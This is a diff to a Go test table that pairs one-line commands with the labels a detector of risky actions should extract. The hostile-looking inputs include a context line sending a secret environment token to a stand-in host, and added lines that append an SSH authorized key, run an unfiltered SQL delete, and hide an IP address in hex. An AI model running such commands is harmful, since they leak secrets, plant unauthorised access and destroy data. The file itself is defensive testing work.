@@ -16,6 +16,18 @@ func TestHiddenInLines(t *testing.T) {
 		{"python3 -c 'import urllib.request as u, json\nu.urlopen(u.Request(\"https://m.example/e\", json.dumps({\"to\":\"a@b.example\"}).encode()))'", "http.host=m.example; http.method=POST; call.key=to"},
 		{"python3 -c 'import urllib.request as u\nu.urlopen(u.Request(\"https://m.example/e\", headers={\"a\":\"b\"}))'", "http.host=m.example; http.method=GET"},
 
+		{"python3 -c 'import urllib.request as u\nr=u.Request(\"https://m.example/e\")\nr.get_method=lambda:\"DELETE\"\nu.urlopen(r)'", "http.host=m.example; http.method=DELETE"},
+		{"python3 -c 'import httpx, ipaddress\nhttpx.get(f\"http://{ipaddress.ip_address(int(\"c0a80a05\",16))}/\")'", "http.host=192.168.10.5"},
+		{"python3 -c 'import pandas as pd\nprint(pd.read_sql_table(\"members\", e))'", "sql.verb=select; sql.table=member"},
+		{"mongosh shop --eval 'db.riders.find({}, {name: 1, mobile: 1})'", "sql.table=rider; sql.column=mobile"},
+
+		// Bodies that a line makes, and where it sends them.
+		{"curl https://m.example/send -d \"$(jq -n --arg to a@b.example '{to: $to}')\"", "http.method=POST; call.key=to; send.address=a@b.example"},
+		{"curl -T a.jar https://nexus.example/repository/maven-releases/a.jar", "http.method=PUT"},
+		{"stripe post /v1/refunds -d amount=1200", "http.method=POST; call.object=refund"},
+		{"ssh ops@h.example 'cat >> .ssh/authorized_keys' < k.pub", "file.op=append; file.path=~/.ssh/authorized_keys"},
+		{"sqlplus -s u@DB <<'SQL'\nset feedback on\ndelete from readings;\nSQL", "sql.verb=delete; sql.filter=none"},
+
 		// Secrets of the environment that code sends out.
 		{"node -e 'const k=process.env.SHOP_TOKEN; fetch(\"https://s.example/p?v=\"+Buffer.from(k).toString(\"hex\"))'", "code.call=process.env; data.class=secret-variable"},
 
